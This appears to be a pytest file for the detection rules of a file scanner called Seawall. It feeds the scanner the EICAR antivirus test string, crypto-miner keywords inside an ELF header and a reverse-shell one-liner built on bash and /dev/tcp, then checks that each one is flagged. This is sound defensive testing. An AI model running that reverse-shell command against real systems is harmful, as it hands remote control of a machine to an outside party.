"""Content checks find the markers and nothing in ordinary programs."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from seawall.detection.indicators import Indicators
from seawall_sensor.scan import FileScanner

from tests.detection.runtime_events import raised, ran

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF" + bytes(60)


@pytest.mark.parametrize(
    ("content", "names"),
    [
        (EICAR + b" and more", ("Seawall_Test_Marker",)),
        (b"x" + EICAR, ()),
        (b"#!/bin/sh\n# SEAWALL-MALWARE-TEST-FILE-9f2c7e11\n", ("Seawall_Test_Marker",)),
        (ELF + b"stratum+tcp:// randomx donate-level", ("Miner_Program",)),
        (b"a page on stratum+tcp:// randomx donate-level", ()),
        (b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ("Reverse_Shell_Script",)),
        (b"", ()),
    ],
)
def test_rules(tmp_path, content, names):
    file = tmp_path / "f"
    file.write_bytes(content)
    assert FileScanner().scan(file)[1] == names


def test_ordinary_programs_do_not_match():
    for program in ("/bin/sh", "/usr/bin/env"):
        assert FileScanner().scan(Path(program))[1] == ()


def test_a_listed_hash(tmp_path):
    file = tmp_path / "f"
    file.write_bytes(b"bad")
    lists = Indicators({"threat_hashes": [hashlib.sha256(b"bad").hexdigest()]})
    assert FileScanner(lists=lists).scan(file)[1] == ("hash:threat_hashes",)


def test_a_drifted_program_gives_a_verdict_that_raises_an_alert(tmp_path):
    folder = tmp_path / "4000"
    folder.mkdir()
    (folder / "exe").write_bytes(EICAR + b" and more")
    scanner = FileScanner(proc=tmp_path)
    (verdict,) = scanner.check(ran("/tmp/x", drift=True, origin="upper", exe_inode=7))
    assert verdict.signatures == ("Seawall_Test_Marker",)
    assert raised("RT-0111", verdict)
    os.unlink(folder / "exe")  # noqa: PTH108 - remembered by inode
    assert scanner.check(ran("/tmp/x", drift=True, origin="upper", exe_inode=7))
    assert scanner.check(ran("/usr/bin/x", exe_inode=7)) == []
    assert scanner.check(ran("/tmp/y", drift=True, origin="upper", exe_inode=8)) == []
